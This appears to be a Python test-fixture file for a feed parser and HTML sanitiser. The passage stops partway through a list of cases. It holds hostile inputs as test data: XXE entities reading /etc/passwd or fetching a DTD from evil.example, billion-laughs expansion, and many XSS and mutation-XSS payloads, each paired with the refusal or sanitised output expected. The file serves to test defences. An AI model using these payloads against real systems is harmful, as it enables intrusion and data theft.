"""Hostile and odd feeds, each named for what is odd about it, with what must come of it.

An outcome is the entries, of which only the fields that matter are given, or why it is refused.
"""

from __future__ import annotations

import codecs
import json
from dataclasses import dataclass, field
from typing import Any

SITE = "https://embassy.example.org"
HEAD = (
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:terms="http://purl.org/dc/terms/" '
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" '
    'xmlns:media="http://search.yahoo.com/mrss/" '
    'xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" '
    'xmlns:atom="http://www.w3.org/2005/Atom"'
)


@dataclass(frozen=True)
class Case:
    """A document and its outcome.

    entries: the fields that matter of each entry. refused: how the only problem begins, if it is.
    warned: how the only warning begins. content_type: what the document is sent as.
    """

    name: str
    data: bytes
    entries: list[dict[str, Any]] = field(default_factory=list)
    refused: str = ""
    warned: str = ""
    content_type: str = ""


def rss(items: str, channel: str = "", root: str = "") -> bytes:
    text = f'<rss version="2.0" {HEAD} {root}><channel>{channel}{items}</channel></rss>'
    return text.encode()


def item(inside: str = "", title: str = "T") -> str:
    return f"<item><title>{title}</title>{inside}</item>"


def described(markup: str) -> bytes:
    """Return a feed of one item whose description is markup."""
    return rss(item(f"<description><![CDATA[{markup}]]></description>"))


def titled(title: str) -> bytes:
    return rss(f"<item><title><![CDATA[{title}]]></title><guid>urn:1</guid></item>")


def atom(entries: str, feed: str = "", root: str = "") -> bytes:
    text = f'<feed xmlns="http://www.w3.org/2005/Atom" {HEAD} {root}>{feed}{entries}</feed>'
    return text.encode()


def entry(inside: str, attributes: str = "") -> str:
    return f"<entry {attributes}>{inside}</entry>"


def json_feed(*items: Any, **feed: Any) -> bytes:
    start = {"version": "https://jsonfeed.org/version/1.1", "title": "Feed"}
    return json.dumps({**start, **feed, "items": items}).encode()


def ics(*events: str, calendar: str = "", end: str = "END:VCALENDAR") -> bytes:
    made = [f"BEGIN:VEVENT\n{event.strip()}\nEND:VEVENT" for event in events]
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Test//EN", calendar, *made, end]
    return "\n".join(filter(None, lines)).replace("\n", "\r\n").encode()


T: dict[str, Any] = {"title": "T"}
DAY = "2026-11-20T10:00:00+00:00"

FORMS = [
    Case(
        "RSS 0.90",
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        b'xmlns="http://my.netscape.com/rdf/simple/0.9/"><channel><title>C</title></channel>'
        b"<item><title>T</title><link>https://a.example/1</link></item></rdf:RDF>",
        [{"title": "T", "link": "https://a.example/1", "id": "https://a.example/1"}],
    ),
    Case(
        "RSS 0.91 with its document type",
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "x.dtd">'
        b'<rss version="0.91"><channel><item><title>Caf&eacute;</title></item></channel></rss>',
        [{"title": "Café"}],
    ),
    Case(
        "RSS 0.92 with an enclosure and a source",
        b'<rss version="0.92"><channel><item><title>T</title><source url="https://s.example/">'
        b"Other</source><enclosure url='https://a.example/a.mp3' type='audio/mpeg' length='7'/>"
        b"</item></channel></rss>",
        [{"title": "T", "enclosures": [("https://a.example/a.mp3", "audio/mpeg", 7)]}],
    ),
    Case(
        "RSS 1.0 with items beside the channel",
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        b'xmlns="http://purl.org/rss/1.0/"><channel><title>C</title></channel>'
        b'<item rdf:about="https://a.example/1"><title>T</title></item></rdf:RDF>',
        [{"title": "T", "id": "https://a.example/1"}],
    ),
    Case(
        "RSS 2.0 with all of one item",
        rss(
            item(
                f"<link>{SITE}/a</link><guid isPermaLink='false'>urn:a</guid>"
                "<pubDate>Fri, 20 Nov 2026 10:00:00 GMT</pubDate><category>Culture</category>"
                "<description>D</description>"
            ),
            "<language>fr</language>",
        ),
        [
            {
                "title": "T",
                "link": f"{SITE}/a",
                "guid": "urn:a",
                "published": DAY,
                "topics": ["Culture"],
                "summary": "D",
                "language": "fr",
            }
        ],
    ),
    Case(
        "RSS in a namespace of its own",
        b'<rss xmlns="http://backend.userland.com/RSS2" version="2.0"><channel><item><title>T'
        b"</title><link>https://a.example/1</link></item></channel></rss>",
        [{"title": "T", "link": "https://a.example/1"}],
    ),
    Case(
        "RSS in capitals",
        b"<RSS VERSION='2.0'><CHANNEL><ITEM><TITLE>T</TITLE></ITEM></CHANNEL></RSS>",
        [T],
    ),
    Case("RSS without a channel", b"<rss><item><title>T</title></item></rss>", [T]),
    Case(
        "RSS with two channels",
        b"<rss><channel><item><title>A</title></item></channel>"
        b"<channel><item><title>B</title></item></channel></rss>",
        [{"title": "A"}, {"title": "B"}],
    ),
    Case("RSS without items", rss("", "<title>C</title>"), []),
    Case(
        "RSS without a version", b"<rss><channel><item><title>T</title></item></channel></rss>", [T]
    ),
    Case(
        "Atom 0.3",
        b'<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry><title>T</title>'
        b"<issued>2026-11-20T10:00:00Z</issued><content type='text/html' mode='escaped'>"
        b"&lt;p&gt;C</content></entry></feed>",
        [{"title": "T", "published": DAY, "summary": "<p>C</p>"}],
    ),
    Case(
        "Atom 0.3 with contents in base64",
        b'<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry><title>T</title>'
        b"<content type='text/html' mode='base64'>PHA+</content></entry></feed>",
        [{"title": "T", "summary": ""}],
    ),
    Case(
        "Atom 1.0 with all of one entry",
        atom(
            entry(
                f"<id>tag:a.example,2026:1</id><title>T</title><link href='{SITE}/a'/>"
                "<published>2026-11-20T10:00:00Z</published>"
                "<updated>2026-11-21T10:00:00Z</updated><category term='c' label='Culture'/>"
                "<summary>S</summary>"
            ),
            root="xml:lang='de'",
        ),
        [
            {
                "title": "T",
                "link": f"{SITE}/a",
                "guid": "tag:a.example,2026:1",
                "published": DAY,
                "updated": "2026-11-21T10:00:00+00:00",
                "topics": ["Culture"],
                "summary": "S",
                "language": "de",
            }
        ],
    ),
    Case(
        "Atom with a prefix",
        b'<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:entry><a:title>T</a:title>'
        b"</a:entry></a:feed>",
        [T],
    ),
    Case("Atom without its namespace", b"<feed><entry><title>T</title></entry></feed>", [T]),
    Case(
        "an Atom entry alone",
        b'<entry xmlns="http://www.w3.org/2005/Atom"><title>T</title></entry>',
        refused="is not a feed: its root element is 'entry'",
    ),
    Case(
        "JSON Feed 1",
        json_feed({"id": 1, "title": "T"}, version="https://jsonfeed.org/version/1"),
        [{"title": "T", "id": "1"}],
    ),
    Case(
        "JSON Feed 1.1 with all of one item",
        json_feed(
            {
                "id": "urn:a",
                "url": f"{SITE}/a",
                "title": "T",
                "content_html": "<p>C",
                "summary": "S",
                "date_published": "2026-11-20T10:00:00Z",
                "tags": ["Culture"],
                "date_modified": "2026-11-21T10:00:00Z",
                "language": "nl",
                "image": f"{SITE}/a.jpg",
                "attachments": [
                    {"url": f"{SITE}/a.mp3", "mime_type": "audio/mpeg", "size_in_bytes": 7}
                ],
            }
        ),
        [
            {
                "title": "T",
                "link": f"{SITE}/a",
                "guid": "urn:a",
                "summary": "S",
                "published": DAY,
                "updated": "2026-11-21T10:00:00+00:00",
                "topics": ["Culture"],
                "language": "nl",
                "image": f"{SITE}/a.jpg",
                "enclosures": [(f"{SITE}/a.mp3", "audio/mpeg", 7)],
            }
        ],
    ),
    Case(
        "iCalendar with all of one event",
        ics(
            "UID:urn:a\nSUMMARY;LANGUAGE=fr:Concert\\, gratuit\nDTSTART:20261201T190000Z\n"
            f"LOCATION:Oslo\nDESCRIPTION:Musique\\nDanse\nURL:{SITE}/a\nCREATED:20261120T100000Z\n"
            "LAST-MODIFIED:20261121T100000Z\nCATEGORIES:Culture,Musique"
        ),
        [
            {
                "title": "Concert, gratuit",
                "link": f"{SITE}/a",
                "guid": "urn:a",
                "language": "fr",
                "summary": "Oslo – Musique<br>Danse",
                "published": DAY,
                "topics": ["Culture", "Musique"],
                "updated": "2026-11-21T10:00:00+00:00",
                "starts": "2026-12-01T19:00:00+00:00",
            }
        ],
    ),
]

NOT_FEEDS = [
    Case("nothing", b"", refused="is not a feed: empty"),
    Case("white space", b" \r\n\t ", refused="is not a feed: empty"),
    Case("only a byte order mark", codecs.BOM_UTF8, refused="is not a feed: empty"),
    Case("zeros", b"\0" * 500, refused="is not a feed"),
    Case(
        "a web page",
        b"<!DOCTYPE html><html><body>Sign in</body></html>",
        refused="is a web page, not a feed",
    ),
    Case("a web page after a comment", b"<!-- x --><HTML>", refused="is a web page, not a feed"),
    Case(
        "a web page sent as a feed",
        b"<html><p>Not found</html>",
        refused="is a web page, not a feed",
        content_type="application/rss+xml",
    ),
    Case("a picture", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", refused="is not a feed"),
    Case("compressed bytes", b"\x1f\x8b\x08\0\0\0\0\0", refused="is not a feed"),
    Case("text", "Gone fishing".encode("utf-16"), refused="is not a feed: begins"),
    Case(
        "SVG",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        refused="is not a feed: its root element is 'svg'",
    ),
    Case(
        "OPML",
        b"<opml version='2.0'><body/></opml>",
        refused="is a list of feeds (OPML)",
    ),
    Case(
        "a site map",
        b"<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'/>",
        refused="is not a feed: its root element is 'urlset'",
    ),
    Case("JSON that is no feed", b'{"error": "not found"}', refused="is JSON, but not a JSON Feed"),
    Case(
        "JSON Feed of a later version",
        json_feed(version="https://jsonfeed.org/version/2"),
        refused="is JSON, but not a JSON Feed",
    ),
    Case("a list of JSON", b"[1, 2]", refused="is not a feed: begins"),
    Case(
        "a card of a person", b"BEGIN:VCARD\r\nFN:A\r\nEND:VCARD", refused="is not a feed: begins"
    ),
]

XML = [
    Case(
        "entities that grow a billionfold",
        b'<!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + rss("&b;"),
        refused="declares entities",
    ),
    Case(
        "an entity that is a file",
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rss(item("&x;")),
        refused="declares entities",
    ),
    Case(
        "an entity of parameters",
        b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>' + rss(item()),
        refused="declares entities",
    ),
    Case(
        "an entity declared in UTF-16",
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY a "b">]><rss/>'.encode(
            "utf-16"
        ),
        refused="declares entities",
    ),
    Case(
        "an entity after a comment that hides it",
        b"<!DOCTYPE r [<!-- ]> --><!ENTITY a 'b'>]><rss/>",
        refused="is not a feed: begins",
    ),
    Case(
        "an external document type is not loaded",
        b'<!DOCTYPE rss SYSTEM "http://127.0.0.1:1/x.dtd">' + rss(item()),
        [T],
    ),
    Case(
        "an instruction for style sheets is not followed",
        b'<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>' + rss(item()),
        [T],
    ),
    Case(
        "an inclusion is not followed",
        rss(item('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>')),
        [T],
    ),
    Case("101 levels", b"<rss>" + b"<a>" * 101, refused="nests elements deeper than 100"),
    Case("100,000 levels", b"<rss>" + b"<a>" * 100_000, refused="nests elements deeper than 100"),
    Case("100,000 elements", b"<rss>" + b"<a/>" * 100_000, refused="has more than 50,000 elements"),
    Case(
        "100,000 attributes",
        b"<rss " + b" ".join(b"a%d='1'" % n for n in range(100_000)) + b"/>",
        [],
    ),
    Case("six million bytes", b"<rss>" + b" " * 6_000_000, refused="has 6,000,005 bytes"),
    Case("cut off in a tag", rss(item())[:-20], refused="is not well-formed XML"),
    Case(
        "cut off in a section",
        b"<rss><channel><item><title><![CDATA[T",
        refused="is not well-formed XML",
    ),
    Case("tags that cross", b"<rss><b><i></b></i></rss>", refused="is not well-formed XML"),
    Case("two roots", b"<rss/><rss/>", refused="is not well-formed XML"),
    Case("an attribute twice", b"<rss a='1' a='2'/>", refused="is not well-formed XML"),
    Case(
        "prefixes that are declared nowhere",
        b"<rss><channel><item><x:title>No</x:title><dc:title>T</dc:title>"
        b"<media:thumbnail url='https://embassy.example.org/a.png'/></item></channel></rss>",
        [{"title": "T", "image": f"{SITE}/a.png"}],
    ),
    Case(
        "attributes with a prefix that is declared nowhere",
        b"<rss><channel><item x:y='z'><title>T</title></item></channel></rss>",
        refused="is not well-formed XML",
    ),
    Case(
        "a hundred thousand prefixes",
        b"<rss><channel>" + b"".join(b"<p%d:a/>" % n for n in range(40_000)) + b"</channel></rss>",
    ),
    Case("text after the end", rss(item()) + b"<!-- page made in 0.2 s -->", [T]),
    Case("words after the end", rss(item()) + b"PHP Warning", refused="is not well-formed XML"),
    Case("blank lines before the declaration", b"\r\n\r\n<?xml version='1.0'?>" + rss(item()), [T]),
    Case(
        "a declaration in the middle",
        b"<?xml version='1.0'?><?xml version='1.0'?>" + rss(item()),
        [T],
    ),
    Case("XML 1.1", b"<?xml version='1.1'?>" + rss(item()), [T]),
    Case("an ampersand alone", rss(item(title="Fish & chips")), [{"title": "Fish & chips"}]),
    Case(
        "references of HTML",
        rss(item(title="&ldquo;a&nbsp;b&rdquo; &hellip;")),
        [{"title": "“a\xa0b” …"}],
    ),
    Case("a reference that nobody knows", rss(item(title="&unknown;")), [{"title": "&unknown;"}]),
    Case(
        "references to characters that XML forbids",
        rss(item(title="a&#0;&#x1b;&#xFFFF;b")),
        [{"title": "ab"}],
    ),
    Case("a reference beyond Unicode", rss(item(title="a&#9999999;b")), [{"title": "ab"}]),
    Case(
        "half a pair of surrogates by reference", rss(item(title="a&#xD83D;b")), [{"title": "ab"}]
    ),
    Case("control characters", rss(item(title="a\x01\x08\x1fb")), [{"title": "ab"}]),
    Case("an item in an item", rss(item(item(title="Inner"), "Outer")), [{"title": "Outer"}]),
    Case(
        "the title of a picture is none",
        rss(
            "<image><title>Logo</title></image><item><media:title>M</media:title><title>T</title>"
            "</item>"
        ),
        [T],
    ),
    Case("two titles", rss("<item><title>A</title><title>B</title></item>"), [{"title": "A"}]),
    Case(
        "a title in pieces",
        rss("<item><title>A <![CDATA[& ]]>B</title></item>"),
        [{"title": "A & B"}],
    ),
    Case(
        "elements within a title",
        rss("<item><title>A <b>B</b><script>x</script></title></item>"),
        [{"title": "A B"}],
    ),
    Case(
        "a comment within a title",
        rss("<item><title>A<!-- x -->B</title></item>"),
        [{"title": "AB"}],
    ),
    Case(
        "an element of the same name of an extension",
        rss("<item><x:title xmlns:x='urn:x'>No</x:title><title>T</title></item>"),
        [T],
    ),
    Case("an item that says nothing", rss("<item/>"), warned="none of its 1 entries has a title"),
    Case(
        "an item that says nothing among others",
        rss("<item/>" + item()),
        [T],
        warned="1 of its 2 entries has neither title nor text",
    ),
    Case(
        "items with an address and no words, all of them",
        rss(
            f"<item><link>{SITE}/a%20b/%3Cscript%3E/</link></item>"
            f"<item><link>{SITE}/</link><pubDate>2026-11-20</pubDate></item>"
            f"<item><enclosure url='{SITE}/talk.mp3' type='audio/mpeg'/></item><item/>"
        ),
        [
            {"title": "embassy.example.org/a b/", "link": f"{SITE}/a%20b/%3Cscript%3E/"},
            {"title": "embassy.example.org/talk.mp3", "link": ""},
            {"title": "2026-11-20", "link": f"{SITE}/"},
        ],
        warned="none of its 4 entries has a title or a text: 3 of them are shown by",
    ),
    Case(
        "a text that looks like markup alone",
        rss(
            f"<item><link>{SITE}/a</link><description>&lt;code&gt;&amp;lt;br&gt;&lt;/code&gt;"
            "</description></item>" + item()
        ),
        [{"title": "embassy.example.org/a", "summary": "&lt;br&gt;"}, T],
    ),
    Case("the same item twice", rss(item("<guid>a</guid>") * 2), [T]),
    Case(
        "a source within an entry tells nothing of it",
        atom(
            entry(
                "<source><title>Other</title><id>urn:x</id><link href='https://x.example/'/>"
                "<updated>2020-01-01T00:00:00Z</updated></source><title>T</title>"
            )
        ),
        [{"title": "T", "link": "", "guid": "", "published": None, "updated": None}],
    ),
    Case(
        "an author within an entry tells nothing of it",
        atom(entry("<author><name>N</name><uri>https://n.example/</uri></author><title>T</title>")),
        [{"title": "T", "link": ""}],
    ),
]

LATIN = "<rss><channel><item><title>Café</title></item></channel></rss>"
CAFE = [{"title": "Café"}]
ENCODINGS = [
    Case("UTF-8 without a declaration", LATIN.encode(), CAFE),
    Case("UTF-8 with a mark", codecs.BOM_UTF8 + LATIN.encode(), CAFE),
    Case("UTF-16 with a mark", LATIN.encode("utf-16"), CAFE),
    Case("UTF-16 without a mark, the other end first", LATIN.encode("utf-16-be"), CAFE),
    Case("UTF-32", codecs.BOM_UTF32_LE + LATIN.encode("utf-32-le"), CAFE),
    Case(
        "Latin-1 as declared",
        b"<?xml version='1.0' encoding='ISO-8859-1'?>" + LATIN.encode("latin-1"),
        CAFE,
    ),
    Case(
        "windows-1252 declared as Latin-1",
        b"<?xml version='1.0' encoding='iso-8859-1'?><rss><item><title>\x93a\x94</title></item>"
        b"</rss>",
        [{"title": "“a”"}],
    ),
    Case(
        "UTF-8 declared as Latin-1",
        b"<?xml version='1.0' encoding='ISO-8859-1'?>" + LATIN.encode(),
        CAFE,
        warned="says it is iso8859-1, but it is utf-8",
    ),
    Case(
        "Latin-1 declared as UTF-8",
        b"<?xml version='1.0' encoding='utf-8'?>" + LATIN.encode("latin-1"),
        CAFE,
        warned="is not utf-8; it was read as windows-1252",
    ),
    Case(
        "UTF-8 declared as UTF-16",
        b"<?xml version='1.0' encoding='utf-16'?>" + LATIN.encode(),
        CAFE,
    ),
    Case(
        "an encoding that nobody knows",
        b"<?xml version='1.0' encoding='klingon'?>" + LATIN.encode(),
        CAFE,
    ),
    Case(
        "UTF-7, which would hide markup",
        b"<?xml version='1.0' encoding='utf-7'?><rss><item><title>+ADw-script+AD4-</title></item>"
        b"</rss>",
        [{"title": "+ADw-script+AD4-"}],
    ),
    Case(
        "Shift JIS",
        "<?xml version='1.0' encoding='Shift_JIS'?><rss><item><title>大使館からの"
        "お知らせ</title></item></rss>".encode("shift_jis"),
        [{"title": "大使館からのお知らせ", "language": "ja"}],
    ),
    Case(
        "Big5",
        "<?xml version='1.0' encoding='big5'?><rss><item><title>大使館公告星期一關閉</title>"
        "</item></rss>".encode("big5"),
        [{"title": "大使館公告星期一關閉", "language": "zh"}],
    ),
    Case(
        "KOI8-R that only the server names",
        "<rss><item><title>Посольство закрыто в понедельник</title></item></rss>".encode("koi8-r"),
        [{"title": "Посольство закрыто в понедельник", "language": "ru"}],
        content_type="text/xml; charset=koi8-r",
    ),
    Case(
        "a server that says Latin-1 of everything",
        LATIN.encode(),
        CAFE,
        content_type="application/xml;charset=ISO-8859-1",
        warned="says it is iso8859-1",
    ),
    Case(
        "a server that names no encoding there is",
        LATIN.encode(),
        CAFE,
        content_type='application/xml; charset="x-unknown"',
    ),
    Case(
        "bytes that are no text in one place",
        b"<rss><item><title>a\xffb</title></item></rss>",
        [{"title": "aÿb"}],
        warned="is not utf-8; it was read as windows-1252",
    ),
    Case("JSON with a mark", codecs.BOM_UTF8 + json_feed({"id": "1", "title": "T"}), [T]),
    Case("JSON in UTF-16", json_feed({"id": "1", "title": "Café"}).decode().encode("utf-16"), CAFE),
    Case(
        "a calendar in Latin-1 that the server names",
        ics("UID:1\nSUMMARY:Caf\u00e9").decode().encode("latin-1"),
        CAFE,
        content_type="text/calendar; charset=iso-8859-1",
    ),
]

TITLES = [
    Case("markup in a title", titled("<b>Bold</b> <i>words</i>"), [{"title": "Bold words"}]),
    Case("a script in a title", titled("<script>alert(1)</script>T"), [T]),
    Case("a picture in a title", titled("<img src=x onerror=alert(1)>T"), [T]),
    Case(
        "escaped markup in a title",
        titled("&lt;script&gt;alert(1)&lt;/script&gt;T"),
        [{"title": "alert(1)T"}],
    ),
    Case(
        "markup escaped twice in a title", titled("&amp;lt;b&amp;gt;T"), [{"title": "&lt;b&gt;T"}]
    ),
    Case("references read once", titled("AT&amp;amp;T"), [{"title": "AT&amp;T"}]),
    Case(
        "markup in a title of type text",
        atom(entry("<title type='text'>&lt;img src=x onerror=alert(1)&gt;T</title>")),
        [T],
    ),
    Case(
        "a title of type html",
        atom(entry("<title type='html'>&lt;em&gt;T&lt;/em&gt;</title>")),
        [T],
    ),
    Case(
        "a title of type xhtml",
        atom(
            entry(
                "<title type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>A <em>B</em>"
                "<script>x()</script></div></title>"
            )
        ),
        [{"title": "A B"}],
    ),
    Case(
        "a title of a type that is no text",
        atom(entry("<title type='image/svg+xml'>&lt;svg onload=x&gt;</title><summary>S</summary>")),
        [{"title": "S"}],
    ),
    Case("svg that is never closed in a title", titled("<svg><style>T"), warned="none of its"),
    Case("a comment that is never closed in a title", titled("T<!-- x"), [{"title": "T< !-- x"}]),
    Case("less than in a title", titled("5 < 10 and 7 > 3"), [{"title": "5 < 10 and 7 > 3"}]),
    Case("a heart in a title", titled("I <3 Oslo"), [{"title": "I <3 Oslo"}]),
    Case(
        "tags within tags in a title",
        titled("<<b>script>alert(1)<</b>/script>"),
        [{"title": "alert(1)"}],
    ),
    Case("lines in a title", titled("One\n\n  two\ttwo"), [{"title": "One two two"}]),
    Case(
        "words that only markup kept apart", titled("<p>One</p><p>two</p>"), [{"title": "One two"}]
    ),
    Case("an override in a title", titled("\u202egnp.exe"), [{"title": "gnp.exe"}]),
    Case(
        "an override by reference in a title",
        titled("&#x202e;gnp.exe&#8238;"),
        [{"title": "gnp.exe"}],
    ),
    Case("directions that are never closed", titled("\u2067a \u202bb"), [{"title": "a b"}]),
    Case("directions closed too often", titled("a\u2069\u202c b"), [{"title": "a b"}]),
    Case(
        "directions that cross",
        titled("\u2067a \u202bb\u2069 c\u202c"),
        [{"title": "\u2067a b\u2069 c"}],
    ),
    Case(
        "a direction that is closed stays",
        titled("\u2067שלום\u2069 x"),
        [{"title": "\u2067שלום\u2069 x"}],
    ),
    Case("a flood of joiners", titled("a" + "\u200d" * 5000 + "b"), [{"title": "a\u200db"}]),
    Case("a flood of spaces without width", titled("\u200b" * 5000 + "T" + "\ufeff" * 5000), [T]),
    Case(
        "a title of what cannot be seen", titled("\u200b\u3164\u2800\u00ad"), warned="none of its"
    ),
    Case(
        "a text hidden in tags", titled("T" + "".join(chr(0xE0000 + ord(c)) for c in "evil")), [T]
    ),
    Case(
        "a flag made of tags stays",
        titled("🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"),
        [{"title": "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"}],
    ),
    Case(
        "a pile of marks",
        titled("Z" + "\u0353\u0301\u0308" * 40),
        [{"title": "Z\u0353\u0301\u0308\u0353"}],
    ),
    Case(
        "a family stays a family", titled("👩\u200d👩\u200d👧"), [{"title": "👩\u200d👩\u200d👧"}]
    ),
    Case(
        "a long title is cut at a word",
        titled("word " * 100),
        [{"title": ("word " * 40).strip() + "…"}],
    ),
    Case(
        "no title",
        rss("<item><description>Some words.</description></item>"),
        [{"title": "Some words."}],
    ),
    Case(
        "a title of white space",
        rss(item("<description>D</description>", " \n ")),
        [{"title": "D"}],
    ),
    Case("a megabyte of title", titled("<b>" * 300_000), warned="none of its"),
    Case(
        "a title that would end its element",
        titled("</title></head><script>alert(1)</script>T"),
        [T],
    ),
    Case(
        "quotation marks that would end an attribute",
        titled("\" onmouseover='alert(1)"),
        [{"title": "\" onmouseover='alert(1)"}],
    ),
]

SUMMARIES = [
    ("a script", "<script>alert(1)</script>D", "D"),
    ("a script that is never closed", "D<script>alert(1)", "D"),
    ("a script in capitals with spaces", "<ScRiPt >alert(1)</sCrIpT >D", "D"),
    ("a script after a null", "<scr\0ipt>alert(1)</scr\0ipt>D", None),
    ("what happens on an error", "<img src=x onerror=alert(1)>D", "D"),
    ("what happens without quotes", "<p onclick=alert(1)//D>D</p>", "<p>D</p>"),
    ("a script in a link", '<a href="javascript:alert(1)">D</a>', "D"),
    ("a script in a link by reference", '<a href="java&#115;cript:alert(1)">D</a>', "D"),
    ("a script in a link by a long reference", '<a href="&#0000106avascript:alert(1)">D</a>', "D"),
    ("a script in a link by name", '<a href="javascript&colon;alert(1)">D</a>', "D"),
    ("a script in a link with a tab", '<a href="java\tscript:alert(1)">D</a>', "D"),
    ("a script in a link with a line end", '<a href="java&NewLine;script:alert(1)">D</a>', "D"),
    ("a script in a link after a control", '<a href="\x01javascript:alert(1)">D</a>', "D"),
    ("a script of another language", '<a href="vbscript:x">D</a>', "D"),
    ("data in a link", '<a href="data:text/html,<script>alert(1)</script>">D</a>', "D"),
    ("a blob in a link", '<a href="blob:https://a.example/x">D</a>', "D"),
    ("a file in a link", '<a href="file:///etc/passwd">D</a>', "D"),
    ("a link to a place in the page", '<a href="#top">D</a>', "D"),
    ("a link with a password", '<a href="https://bank.example@evil.example/">D</a>', "D"),
    ("a link with a backslash", '<a href="https:\\\\evil.example">D</a>', "D"),
    (
        "a link without a scheme",
        '<a href="//b.example/x">D</a>',
        '<a href="https://b.example/x" rel="external nofollow">D</a>',
    ),
    (
        "a relative link",
        '<a href="/x?a=1&b=2">D</a>',
        f'<a href="{SITE}/x?a=1&amp;b=2" rel="external nofollow">D</a>',
    ),
    (
        "all that a link can carry",
        '<a href="/x" target=_top ping="https://t.example" name=body id=x class=y style="a" '
        'onclick="b()" download rel=opener>D</a>',
        f'<a href="{SITE}/x" rel="external nofollow">D</a>',
    ),
    (
        "a link in a link",
        '<a href="/1">A<a href="/2">B</a></a>',
        f'<a href="{SITE}/1" rel="external nofollow">A</a>'
        f'<a href="{SITE}/2" rel="external nofollow">B</a>',
    ),
    ("svg that is never closed", "<svg><p>D", "<p>D</p>"),
    ("svg with a script", "<svg><script>alert(1)</script></svg>D", "D"),
    (
        "svg that animates a link",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>D</text></a></svg>",
        "",
    ),
    ("svg that uses data", '<svg><use href="data:image/svg+xml,<svg onload=x>"/></svg>D', "D"),
    ("math that is never closed", "<math><mtext><p>D", ""),
    (
        "math that hides a style",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;'>D",
        None,
    ),
    (
        "svg that hides a style",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>D",
        None,
    ),
    (
        "a form in a table in math",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        None,
    ),
    ("a frame", '<iframe src="https://a.example"></iframe>D', "D"),
    ("a frame with its document", '<iframe srcdoc="<script>alert(1)</script>"></iframe>D', "D"),
    ("an object and an embed", "<object data=x><embed src=x></object>D", "D"),
    ("a form", "<form action=https://a.example><input name=q><button>D</button></form>", "D"),
    ("a field for a password", "<input type=password autofocus onfocus=alert(1)>D", "D"),
    (
        "a base",
        "<base href=https://evil.example/><a href=/x>D</a>",
        f'<a href="{SITE}/x" rel="external nofollow">D</a>',
    ),
    ("a meta that leads away", "<meta http-equiv=refresh content='0;url=https://a.example'>D", "D"),
    ("a style sheet", "<link rel=stylesheet href=https://a.example/x.css>D", "D"),
    ("styles", "<style>@import 'https://a.example/x.css';</style>D", "D"),
    ("a style that covers the page", '<div style="position:fixed;inset:0">D</div>', "<p>D</p>"),
    ("a class of the page", '<p class="alert" id="main">D</p>', "<p>D</p>"),
    ("a name that hides a function", '<a name="getElementById">D</a><form id=document>', "D"),
    (
        "pictures",
        '<img src="https://t.example/p.gif"><picture><source srcset=https://t.example/x>'
        "</picture>D",
        "D",
    ),
    (
        "sound and film",
        "<video src=https://t.example/x autoplay poster=y>D</video><audio src=z>",
        "D",
    ),
    ("a template", "<template><script>alert(1)</script></template>D", "D"),
    (
        "a shadow",
        "<div><template shadowrootmode=open><style>*{}</style></template>D</div>",
        "<p>D</p>",
    ),
    (
        "noscript that hides markup",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">D',
        None,
    ),
    (
        "a text area that hides markup",
        '<textarea><p title="</textarea><img src=x onerror=x()>">D',
        None,
    ),
    ("a title that hides markup", '<title><p title="</title><img src=x onerror=alert(1)>">D', None),
    ("plain text to the end", "D<plaintext><p>x", None),
    ("an example as of old", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>D", None),
    ("a comment that is closed oddly", "<!--><img src=x onerror=alert(1)>-->D", None),
    ("a comment for one browser", "<!--[if IE]><script>alert(1)</script><![endif]-->D", "D"),
    ("a declaration", "<!DOCTYPE html><!ENTITY x><?php echo 1 ?>D", None),
    ("a section of XML", "<![CDATA[<script>alert(1)</script>D", None),
    ("what closes more than it opens", "</div></body></html></p></li>D", "D"),
    ("what opens more than it closes", "<div><ul><li><b><p>D", "<ul><li><p>D</p></li></ul>"),
    ("tags that cross", "<b><i>A</b>B</i>", "<strong><em>A</em></strong><em>B</em>"),
    ("a list without its list", "<li>A<li>B", "<p>A</p><p>B</p>"),
    ("text in a list", "<ul>A<li>B</ul>", "<ul><li>A</li><li>B</li></ul>"),
    ("a table", "<table><tr><th>A<td>B</table>", "<p>A</p><p>B</p>"),
    ("headings", "<h1>A</h1>B", "<p>A</p>B"),
    ("300 divisions", "<div>" * 300 + "D", "<p>D</p>"),
    ("10,000 divisions", "<div>" * 10_000 + "D", ""),
    ("10,000 emphases", "D" + "<b>" * 10_000, "D"),
    ("10,000 quotations", "D<blockquote>" * 10_000, None),
    ("a megabyte of text", "word " * 200_000, None),
    ("a megabyte of less-than", "D" + "<" * 1_000_000, None),
    ("a megabyte of attributes", "<p " + "a=1 " * 250_000 + ">D", None),
    ("a megabyte of ampersands", "D" + "&" * 1_000_000, None),
    ("custom elements", "<x-evil onclick=a>D</x-evil>", "D"),
